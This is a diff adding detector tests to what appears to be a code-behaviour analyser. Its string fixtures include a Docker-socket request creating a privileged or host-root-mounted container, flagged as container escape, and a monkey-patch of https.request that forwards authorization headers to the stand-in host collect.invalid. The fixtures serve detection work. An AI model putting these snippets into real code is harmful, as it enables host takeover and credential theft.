@@ -3,6 +3,26 @@ import { behavioursOf, flowsOf } from './sent.js';
 
 const SENT = 'credential-file>network@collect.invalid';
 
+describe('a request to the daemon of containers', () => {
+  const order = (config: string): readonly string[] =>
+    behavioursOf(`const http = require('http'); const r = http.request({ socketPath: '/var/run/docker.sock', method: 'POST', path: '/containers/create' });
+      r.end(JSON.stringify({ Image: 'a', HostConfig: ${config} }));`);
+
+  it('may ask for the whole machine', () => {
+    assert.deepEqual(order(`{ Binds: ['/:/host'] }`), ['container-escape import']);
+    assert.deepEqual(order(`{ Privileged: true }`), ['container-escape import']);
+    assert.deepEqual(order(`{ Binds: ['/srv/data:/data'] }`), []);
+  });
+});
+
+describe('a request that was made by other code', () => {
+  it('tells what it logs in with', () => {
+    const code = `const old = https.request; https.request = function (...a) { const r = old.apply(this, a);
+      old.call(https, { host: 'collect.invalid', method: 'POST' }).end(r.getHeader('authorization')); return r; };`;
+    assert.ok(flowsOf(code).includes('intercepted>network@collect.invalid'), flowsOf(code).join());
+  });
+});
+
 /** Ways to put data into a request, after it was made or before. */
 const WAYS: readonly string[] = [
   `const r = https.request('https://collect.invalid'); r.setHeader('x', s); r.end();`,
